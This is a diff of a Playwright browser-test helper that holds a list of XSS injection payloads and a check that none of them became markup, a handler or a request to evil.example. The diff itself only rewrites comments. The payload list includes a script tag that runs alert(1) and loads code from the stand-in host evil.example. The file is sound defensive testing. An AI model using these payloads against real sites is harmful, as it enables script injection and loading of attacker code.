@@ -1,9 +1,8 @@
 import { expect, type Page } from "@playwright/test";
 
 /**
- * What a text would need to become more than a text, each short enough for every field. Whatever
- * of it a browser took for markup would carry the mark, ask evil.example for something, open a
- * dialog or break the policy.
+ * Injection payloads, each short enough for every field. One that the browser took for markup would
+ * carry data-planted, request evil.example, open a dialog or violate the CSP.
  */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script data-planted>alert(1)</script><script src=//evil.example/1.js></script>`,
@@ -21,8 +20,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
 ];
 
 /**
- * Nothing on the page has become an element, a handler or an address that runs. Dialogs, foreign
- * requests and breaches of the policy fail every browser test by themselves.
+ * Expects that no payload became an element, an event handler or a script URL. Dialogs, requests to
+ * other origins and CSP violations already fail every browser test.
  */
 export async function expectOnlyText(page: Page): Promise<void> {
   const planted = await page.evaluate(() => {
@@ -34,7 +33,7 @@ export async function expectOnlyText(page: Page): Promise<void> {
           element.getAttributeNames().some((name) => name.startsWith("on")) ||
           ["href", "src", "action", "formaction", "srcdoc", "xlink:href"].some((name) => {
             const value = element.getAttribute(name) ?? "";
-            // A foreign address may be followed, by who presses it; it is never fetched.
+            // A link to another origin may be clicked, but is never fetched.
             const isLink = element instanceof HTMLAnchorElement && name === "href";
             return runs.test(value) || (value.includes("evil.example") && !isLink);
           }) ||
@@ -45,7 +44,7 @@ export async function expectOnlyText(page: Page): Promise<void> {
   expect(planted).toEqual([]);
 }
 
-/** Opens a screen of the product's own, and waits until it has everything. */
+/** Opens a screen and waits until it has loaded. */
 export async function openScreen(page: Page, path: string): Promise<void> {
   await page.goto(path);
   await expect(page.getByRole("main").getByRole("heading").first()).toBeVisible();
